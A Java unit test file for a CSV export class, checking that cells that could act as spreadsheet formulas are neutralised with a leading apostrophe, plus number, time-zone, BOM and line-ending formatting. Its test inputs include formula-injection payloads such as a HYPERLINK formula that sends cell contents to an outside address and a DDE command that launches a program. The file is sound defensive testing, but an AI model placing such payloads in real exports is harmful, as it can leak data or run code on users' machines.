package cn.servicecircle.csv;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import java.time.Instant;
import java.time.ZoneId;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTableTest {
    private static final ZoneId ZONE = ZoneId.of("Asia/Shanghai");

    private static String text(Object... cells) {
        CsvTable table = new CsvTable(ZONE, "甲", "乙", "丙");
        table.add(cells);
        return table.toContent("a.csv").whole().toString();
    }

    /** The only row after the header, as a program reads it. */
    private static List<String> read(Object... cells) {
        return CsvReader.builder().ofCsvRecord(text(cells)).stream()
                .skip(1)
                .findFirst()
                .orElseThrow()
                .getFields();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://x/?\"&A1,\"点我\")",
                "+8613800000000",
                "-2+3",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "　＝1+1",
                "＋1",
                "－1",
                "＠A1",
                "=1\";=1+1",
                "=cmd|'/c calc'!A0"
            })
    void whatWouldBeAFormula_isText(String cell) {
        assertEquals(List.of("'" + cell, "b", ""), read(cell, "b", null));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "路面坑洼", "A=1", "1-2", "a,\"b\"\r\nc", "'=1", "BB-261123-8K4M2X", "a@b"})
    void whatIsNone_staysAsItIs(String cell) {
        assertEquals(List.of(cell, "b", ""), read(cell, "b", null));
    }

    @Test
    void numbersAreNumbers_andTimesAreLocal() {
        assertEquals(
                List.of("-106.5", "2026-11-23 10:05", "3"), read(-106.5, Instant.parse("2026-11-23T02:05:59Z"), 3));
    }

    @Test
    void itBeginsWithTheMarkThatSaysUtf8_andEndsLinesAsRfc4180Does() {
        assertTrue(text("a", "b", "c").equals("\uFEFF甲,乙,丙\r\na,b,c\r\n"));
    }
}
